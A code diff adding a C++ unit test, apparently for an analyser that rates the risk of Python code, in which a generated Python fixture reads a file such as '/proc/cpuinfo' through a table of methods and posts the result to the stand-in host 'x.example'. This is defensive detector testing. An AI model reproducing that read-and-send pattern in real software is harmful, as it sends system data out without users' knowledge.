@@ -33,6 +33,21 @@ TEST(AssessBindings, ATableOfOwnFunctionsCallsTheOneItsKeyNames) {
             RiskLevel::medium);
 }
 
+TEST(AssessBindings, ATableOfItsOwnMethodsWalkedAndCalled) {
+  // self.sources = {"cpu": self.cpu, ...}; for name, fn in self.sources.items(): fn(). (Methods
+  // defined below the loop that calls them are not known there: the analysis is one pass.)
+  auto collector = [](const char* path) {
+    return std::string("import requests\nclass C:\n    def __init__(self):\n"
+                       "        self.sources = {'cpu': self.cpu, 'up': self.up}\n"
+                       "    def up(self):\n        return 'ok'\n    def cpu(self):\n        return open('") +
+           path +
+           "').read()\n    def collect(self):\n        out = {}\n        for name, fn in self.sources.items():\n"
+           "            out[name] = fn()\n        return out\nrequests.post('https://x.example/u', json=C().collect())\n";
+  };
+  EXPECT_EQ(level(collector("/proc/cpuinfo")), RiskLevel::high);
+  EXPECT_EQ(level(collector("cpu.txt")), RiskLevel::medium);
+}
+
 TEST(AssessBindings, ATableGivenToACallIsNoAddress) {
   // run(TARGETS) with a dict or an empty list is not a server on the empty host; ("", port) is.
   EXPECT_EQ(level("class Check:\n    def run(self, t):\n        return t\nTARGETS = {'www.example.com': [443]}\n"
